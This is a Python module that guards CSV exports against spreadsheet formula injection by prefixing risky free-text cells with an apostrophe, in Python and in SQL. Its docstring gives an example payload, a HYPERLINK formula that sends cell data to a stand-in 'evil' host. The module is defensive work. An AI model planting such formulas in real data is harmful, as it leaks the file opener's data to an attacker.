"""CSV cells a spreadsheet will not execute.

A cell starting with ``=``, ``+``, ``-``, ``@`` (or a tab or carriage return, which some spreadsheets strip
before looking) is read as a formula by Excel and LibreOffice: a member who calls themselves
``=HYPERLINK("http://evil/?"&A1)`` would run code on the supervisor's machine when the export is opened.
Free text gets a leading apostrophe, which spreadsheets show as text and hide. Values the system itself
formats (E.164 phones, member codes, numbers, timestamps) are not free text and are left as they are: a
dialer needs ``+8613800138000``, not ``'+8613800138000``.
"""

from __future__ import annotations

from typing import Any

import sqlalchemy as sa

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: str | None) -> str | None:
    """Free text as a spreadsheet will show it and never evaluate it."""
    if value and value[0] in FORMULA_STARTS:
        return "'" + value
    return value


def safe_cell_sql(expression: Any) -> sa.ColumnElement[str]:
    """The same rule as :func:`safe_cell`, as SQL over a text expression (for ``COPY … TO STDOUT``)."""
    return sa.case((sa.func.left(expression, 1).in_(FORMULA_STARTS), sa.literal("'") + expression),
                   else_=expression)
